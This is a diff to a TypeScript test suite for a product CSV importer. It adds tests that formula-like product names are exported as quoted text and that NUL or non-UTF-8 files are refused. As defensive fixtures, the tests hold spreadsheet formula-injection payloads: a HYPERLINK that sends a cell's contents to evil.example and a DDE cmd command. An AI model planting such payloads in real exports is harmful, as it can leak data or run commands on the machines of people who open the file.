@@ -16,8 +16,9 @@ beforeAll(async () => {
   await ensurePriceTiers(db);
 });
 
+const blankProduct = Object.fromEntries(['barcode', 'barcodeType', 'fnsku', 'asin', 'unitCost', 'defaultLocationId', ...Array.from({ length: 10 }, (_, i) => `price${i + 1}`)].map((k) => [k, '']));
 const bySku = async (q: string) => (await listProducts(db, { q, sort: 'sku', dir: 'asc', after: null, limit: 500 })).rows;
-const importErrors = async (text: string) => {
+const importErrors = async (text: string | Blob) => {
   try {
     await importProductsCsv(db, text);
   } catch (e) {
@@ -89,6 +90,35 @@ describe('products CSV import', () => {
     expect(records).toHaveLength(count + 1);
     expect(await importProductsCsv(db, first)).toEqual({ created: 0, updated: count });
     expect(await exportProductsCsv(db, 3)).toBe(first);
+  });
+
+  it('exports names a spreadsheet would run as text, and imports them back unchanged (issue 7, item 8)', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', "'=quoted already"];
+    for (const [i, name] of names.entries()) await saveProduct(db, ProductInput.parse({ ...blankProduct, sku: `FX-${i}`, name }));
+    // Typed in the product form with a leading tab: trimmed, so stored as "=1+1", and exported as text.
+    await saveProduct(db, ProductInput.parse({ ...blankProduct, sku: 'FX-TAB', name: '\t=1+1' }));
+    const stored = await bySku('FX-');
+    expect(stored.map((r) => r.name)).toEqual([...names, '=1+1']);
+
+    const exported = await exportProductsCsv(db);
+    const cells = exported.split('\r\n').filter((l) => l.startsWith('FX-')).map((l) => l.slice(l.indexOf(',') + 1).split(',')[0]);
+    expect(cells).toEqual([`"'=HYPERLINK(""http://evil.example/?x=""&A1`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "''=quoted already", "'=1+1"]);
+
+    expect(await importProductsCsv(db, exported)).toMatchObject({ created: 0 });
+    expect((await bySku('FX-')).map((r) => r.name)).toEqual([...names, '=1+1']);
+  });
+
+  it('refuses a file with a NUL character or bytes that are not UTF-8, naming the line; nothing is imported (issue 7, item 1)', async () => {
+    const nul = await importErrors('SKU,Name\r\nNUL-1,Fine\r\nNUL-2,Bad\0name\r\n');
+    expect(nul.rows).toEqual([expect.stringMatching(/^Line 3: the file contains a NUL character/)]);
+    expect(nul.message).toContain('nothing was imported');
+    const enc = new TextEncoder();
+    const latin1 = new Uint8Array([...enc.encode('SKU,Name\r\nNUL-3,Fine\r\nNUL-4,Caf'), 0xe9, ...enc.encode('\r\n')]);
+    const bad = await importErrors(new Blob([latin1]));
+    expect(bad.rows).toEqual([expect.stringMatching(/^Line 3: the file is not UTF-8 text/)]);
+    expect(await bySku('NUL-')).toEqual([]);
+    // The same file saved as UTF-8 imports.
+    expect(await importProductsCsv(db, new Blob([enc.encode('\uFEFFSKU,Name\r\nNUL-3,Café\r\n')]))).toEqual({ created: 1, updated: 0 });
   });
 
   it('imports a larger file in batches', async () => {
